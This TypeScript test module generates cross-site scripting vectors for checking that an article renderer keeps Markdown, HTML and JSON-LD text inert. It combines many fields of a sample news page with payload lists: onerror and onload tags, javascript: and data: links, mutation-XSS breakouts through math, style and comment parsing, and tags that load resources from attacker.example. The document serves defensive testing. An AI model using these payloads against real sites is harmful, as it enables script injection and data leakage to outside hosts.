/**
 * Vectors that are text: a page may show any words, and none of them may come alive where the article's Markdown, HTML or
 * JSON-LD is rendered. Made from fields of an article × payloads, and payloads from what breaks out × what then runs.
 *
 * The kinds are those of DOMPurify's and sanitize-html's suites (mutation through foreign content, comments, raw text
 * elements, odd quotes) and of Markdown itself (links, definitions, fences, autolinks, tables, footnotes).
 */

export interface TextVector {
  readonly name: string;
  /** The page, complete. */
  readonly page: string;
}

type Payload = (call: string) => string;

/** What runs once it is HTML. */
const TAGS: readonly Payload[] = [
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<img src=x onerror=${call}//>`,
  (call) => `<svg/onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt >${call}</sCrIpT >`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src=javascript:${call}></iframe>`,
  (call) => `<a href=javascript:${call}>read on</a>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<video src=x onerror=${call}></video>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<form action=javascript:${call}><button>go</button></form>`,
  (call) => `<x onpointerenter=${call} tabindex=1>x</x>`,
  (call) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  (call) => `<textarea></textarea><img src=x onerror=${call}>`,
  (call) => `<!--><img src=x onerror=${call}>-->`,
  (call) => `<!-- --!><img src=x onerror=${call}>`,
  (call) => `<![CDATA[><img src=x onerror=${call}>]]>`,
  (call) => `<?php ><img src=x onerror=${call}>?>`,
  (call) => `<!doctype ><img src=x onerror=${call}>`,
  () => '<base href="https://attacker.example/">',
  () => '<meta http-equiv=refresh content="0;url=https://attacker.example/refresh">',
  () => '<link rel=stylesheet href="https://attacker.example/sheet.css">',
  () => '<style>@import "https://attacker.example/import.css";</style>',
  () => '<object data="https://attacker.example/object"></object>',
  () => '<p style="background:url(https://attacker.example/style)">x</p>',
];

/** What may end the place that the text stands in, or open another. */
const BREAKS: readonly string[] = [
  '\\',
  '\\\\',
  '\\\\\\',
  '`',
  '``',
  '```',
  '` `',
  '~~~',
  '\\`',
  '|',
  '\\|',
  '\\\\|',
  ' | ',
  ']',
  '](x)',
  '[',
  '[x](',
  '![',
  '![x](',
  '![x](x "',
  '[x]: ',
  '[^1]: ',
  '[^1]',
  ')',
  '(',
  '**',
  '*',
  '__',
  '_',
  '~~',
  '~',
  '&',
  '&amp;',
  '&#60;',
  '&lt;',
  '$',
  '$$',
  '# ',
  '> ',
  '- ',
  '1. ',
  '+++ ',
  '--- ',
  '=== ',
  '{{ ',
  '{% ',
  '::: ',
  '"',
  "'",
  '">',
  "'>",
  '-->',
  ']]>',
  '?>',
  '</p>',
  '</title>',
  '</script>',
  '</style>',
  '</textarea>',
  '<',
  '<<',
  '</',
  '\u0000',
  '\u000b',
  '\u0085',
  '\u00a0',
  '\u200b',
  '\u2028',
  '\u2029',
  '\u202e',
  '\ufeff',
  '\t',
  '    ',
  'http://a.example/',
  'https://a.example/?q=',
  'http://a.example/https://',
  'ftp://a.example/',
  'www.a.example/',
  'WWW.a.example/',
  'www.a.example/]',
  "~www.a.example/'",
  'a.example/',
  'ada@a.example',
  'mailto:ada@a.example',
  'xmpp:ada@a.example/',
  '//a.example/',
];

/** Markdown that runs or loads without any HTML. */
const MARKS: readonly Payload[] = [
  (call) => `[read on](javascript:${call})`,
  (call) => `[read on](javascript:${call} "title")`,
  (call) => `[read on](<javascript:${call}>)`,
  (call) => `[read on]( javascript:${call})`,
  (call) => `[read on](javascript&colon;${call})`,
  (call) => `[read on](javascript\\:${call})`,
  (call) => `[read on](java\u200bscript:${call})`,
  (call) => `[read on](data:text/html,<script>${call}</script>)`,
  (call) => `[read on](https://a.example/"onmouseover="${call})`,
  (call) => `[read on](https://a.example/'onmouseover='${call})`,
  (call) => `[[read] on](javascript:${call})`,
  (call) => `[![read on](https://attacker.example/i.png)](javascript:${call})`,
  (call) => `<javascript:${call}>`,
  (call) => `[read on]: javascript:${call}`,
  (call) => `[^1]: javascript:${call}`,
  (call) => `: javascript:${call}`,
  (call) => `(javascript:${call})`,
  (call) => `javascript:${call}`,
  (call) => `javascript: ${call}`,
  (call) => `JavaScript:${call}//`,
  (call) => `vbscript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `![x](x"onerror="${call})`,
  (call) => `![x" onerror="${call}](https://attacker.example/i.png)`,
  () => '![x](https://attacker.example/i.png)',
  () => '![x][1] [1]: https://attacker.example/i.png',
  (call) => `|a|b| |-|-| |<img src=x onerror=${call}>|`,
  (call) => `{.x onclick=${call}}`,
  (call) => `$\\href{javascript:${call}}{x}$`,
];

const IMAGE: Payload = (call) => `<img src=x onerror=${call}>`;

const PAYLOADS: readonly Payload[] = [
  ...TAGS,
  ...BREAKS.map(
    (text): Payload =>
      (call) =>
        text + IMAGE(call),
  ),
  ...MARKS,
];

/** Where text stands in a body; what is passed is HTML already. */
const BODY_FIELDS: Readonly<Record<string, (text: string) => string>> = {
  paragraph: (text) => `<p>${text}</p>`,
  'text around a break': (text) => `<p>Before<br>${text}<br>${text}</p>`,
  strong: (text) => `<p>Before <b>${text}</b>after</p>`,
  superscript: (text) => `<p>Before]<sup>${text}</sup>!<a href="https://example.org/x">after</a></p>`,
  heading: (text) => `<h2>${text}</h2>`,
  'list item': (text) => `<ul><li>${text}</li><li>x<ol><li>${text}</li></ol></li></ul>`,
  definition: (text) => `<dl><dt>${text}</dt><dd>${text}</dd></dl>`,
  quote: (text) => `<blockquote><p>${text}</p></blockquote>`,
  'code in a line': (text) => `<p><code>${text}</code>, \`<code>x</code> and <code>\`</code> <code>${text}</code></p>`,
  'code block': (text) => `<pre><code>${text}</code></pre>`,
  'code block of lines': (text) => `<pre><code class="language-c++">---\n${text}\n[x]: y\n\n\`\`\`\n${text}</code></pre>`,
  'code block in a list': (text) =>
    `<ul><li>x<pre><code>a\n\n${text}</code></pre></li></ul><ol><li>x<ul><li><pre>${text}</pre></li></ul></li></ol>`,
  'code block in a quote': (text) => `<blockquote><p>x</p><pre><code>a\n\n${text}</code></pre></blockquote>`,
  'table cell': (text) => `<table><caption>${text}</caption><tr><th>${text}</th><th>a</th></tr><tr><td>${text}</td><td>b</td></tr></table>`,
  'code in a table cell': (text) =>
    `<table><tr><th>a</th><th><code>${text}</code></th></tr><tr><td><code>\\|${text}</code></td><td>\`</td></tr><tr><td><code>\`</code></td><td><code>${text}</code></td></tr></table>`,
  caption: (text) =>
    `<figure><img src="https://example.org/wall.jpg" alt="x" width=600 height=400><figcaption>${text}</figcaption></figure>`,
  credit: (text) =>
    `<figure><img src="https://example.org/wall.jpg" alt="x" width=600 height=400><figcaption>The wall. <span class="credit">Photo: ${text}</span></figcaption></figure>`,
  'alternative text': (text) => `<p>x</p><img src="https://example.org/wall.jpg" width=600 height=400 alt="${text}">`,
  'text of a link': (text) => `<p><a href="https://example.org/reports">${text}</a>${text}</p>`,
  'address of a link': (text) =>
    `<p><a href="https://example.org/${text}">x</a> <a href="mailto:${text}">x</a> <a href="tel:${text}">x</a> <a href="${text}">x</a></p>`,
  'address of a picture': (text) => `<img src="https://example.org/${text}" width=600 height=400 alt="x">`,
  formula: (text) =>
    `<p>Let <math><semantics><mi>x</mi><annotation encoding="application/x-tex">${text}</annotation></semantics></math> be.</p><math display="block"><semantics><mi>x</mi><annotation encoding="application/x-tex">${text}</annotation></semantics></math>`,
  'picture of a formula': (text) =>
    `<p>Let <img class="tex" src="https://example.org/tex.png" alt="${text}"> and <img class="mwe-math-fallback-image-inline" src="https://example.org/tex.png" alt="$${text}$"> be.</p>`,
  footnote: (text) => `<p>x!<sup><a href="#n1">1</a></sup>${text}</p><ol><li id="n1">${text}</li></ol>`,
  'code in a footnote': (text) => `<p>x<sup><a href="#n1">1</a></sup></p><ol><li id="n1"><code>${text}</code></li></ol>`,
};

const PROSE =
  '<p>The harbour council met on Tuesday evening to hear what the storm had cost the town, and the hall was full well before the doors were closed. Fishermen described how the outer wall gave way shortly after midnight, and how the boats that were moored behind it broke loose one after another.</p>';

interface Head {
  readonly title?: string;
  readonly metas?: string;
  readonly header?: string;
  readonly body?: string;
}

function page({ title = 'Harbour wall: council orders inquiry', metas = '', header = '', body = '' }: Head): string {
  return `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>${title}</title>${metas}</head><body><article><h1>${title}</h1>${header}${PROSE}${body}${PROSE}${PROSE}</article></body></html>`;
}

const meta = (property: string, content: string): string => `<meta property="${property}" content="${content}">`;
const jsonLd = (article: object): string =>
  `<script type="application/ld+json">${JSON.stringify({ '@context': 'https://schema.org', '@type': 'NewsArticle', ...article }).replaceAll('<', '\\u003c')}</script>`;

/** Fields of the head: the text, escaped for HTML and as it is. */
const HEAD_FIELDS: Readonly<Record<string, (text: string, raw: string) => Head>> = {
  title: (text) => ({ title: text }),
  'title of a sentence': (text) => ({ title: `Council says ${text} at last!` }),
  subtitle: (text) => ({ header: `<h2 class="subtitle">Reports of ${text} were read by the council</h2>` }),
  'subtitle of JSON-LD': (_text, raw) => ({
    metas: jsonLd({ headline: 'Harbour wall: council orders inquiry', alternativeHeadline: raw, description: raw }),
  }),
  author: (text) => ({ metas: `<meta name="author" content="Ada Penrose ${text}">` }),
  'author of JSON-LD': (_text, raw) => ({
    metas: jsonLd({
      author: [
        { '@type': 'Person', name: raw },
        { '@type': 'Person', name: `Ada ${raw}`, url: raw },
      ],
    }),
  }),
  byline: (text) => ({ header: `<p class="byline">By ${text}</p>` }),
  site: (text, raw) => ({ metas: meta('og:site_name', text) + jsonLd({ publisher: { name: raw } }) }),
  section: (text, raw) => ({ metas: meta('article:section', text) + jsonLd({ articleSection: raw }) }),
  tags: (text, raw) => ({ metas: meta('article:tag', text) + jsonLd({ keywords: [raw] }) }),
  'picture of the article': (text, raw) => ({
    metas:
      meta('og:image', `https://example.org/${text}`) +
      meta('og:image:alt', text) +
      jsonLd({ image: { '@type': 'ImageObject', url: 'https://example.org/a.png', caption: raw } }),
  }),
  rights: (_text, raw) => ({
    metas: jsonLd({ copyrightNotice: raw, license: `https://example.org/${raw}`, url: `https://example.org/${raw}` }),
  }),
};

const escape = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');

/** All of them; the payload of number n calls `fire(n)`. */
export function textVectors(): TextVector[] {
  const vectors: TextVector[] = [];
  for (const payload of PAYLOADS) {
    const add = (field: string, make: (text: string, raw: string) => string): void => {
      const raw = payload(`fire(${vectors.length})`);
      vectors.push({ name: `${field}: ${raw}`, page: make(escape(raw), raw) });
    };
    for (const [field, write] of Object.entries(BODY_FIELDS)) add(field, (text) => page({ body: write(text) }));
    for (const [field, write] of Object.entries(HEAD_FIELDS)) add(field, (text, raw) => page(write(text, raw)));
  }
  return vectors;
}
